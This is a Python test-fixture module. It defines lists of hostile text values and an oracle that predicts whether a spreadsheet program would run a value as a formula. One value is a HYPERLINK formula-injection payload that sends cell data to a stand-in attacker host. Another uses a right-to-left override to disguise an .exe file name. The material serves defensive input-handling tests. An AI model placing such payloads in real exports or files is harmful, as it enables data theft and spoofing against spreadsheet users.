"""One set of hostile text values for every test that feeds user input through the platform.

Formula starts in every spelling spreadsheet programs run (also full-width and after leading blanks),
control characters, direction overrides, emoji, line breaks and separators. ``STORABLE`` fit any text
column of PostgreSQL (at most 64 characters, no NUL); ``ALL`` adds what only code can hand over: NUL, a
lone surrogate, 10,000 characters (longer than any one-line field takes) and a value longer than an XLSX cell
holds.
"""

from __future__ import annotations

import re

STORABLE = [
    '=HYPERLINK("http://evil.example/?d="&B2,"Klicka")',
    "=1+1",
    "+SUM(A1:A2)",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\u3000=1+1",
    "\u00a0@SUM(1,1)",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0bSUM(A1)",
    "\uff0d1+1",
    "\uff20SUM(1,1)",
    "Probe\u000bControl",
    "esc\x1b[31mred\x07",
    "rtl\u202egnp.exe",
    "emoji \U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f600",
    "line\nbreak\r\nand more",
    'semi;colon,"quote"',
    "non\ufffechar\uffff",
]
ALL = [*STORABLE, "NUL\x00byte", "lone \ud800 surrogate", "Lång " * 2_000, "x" * 40_000]

# An oracle independent of the code under test: what a spreadsheet program would run as a formula.
_BLANKS = re.compile(r"^[\s\u200b-\u200f\u202a-\u202e\u2060-\u2064\ufeff]*")
_NUMBER_LIKE = re.compile(r"[+\-]?[\d\s\-]*([.,]\d+)?")
UNWRITABLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff]")


def runs_as_formula(text: str) -> bool:
    if not text or text.startswith("'"):
        return False
    if text[0] in "\t\r\n":
        return True
    rest = _BLANKS.sub("", text)
    if not rest:
        return False
    if rest[0] in "=@\uff1d\uff0b\uff0d\uff20":
        return True
    return rest[0] in "+-" and not _NUMBER_LIKE.fullmatch(rest)
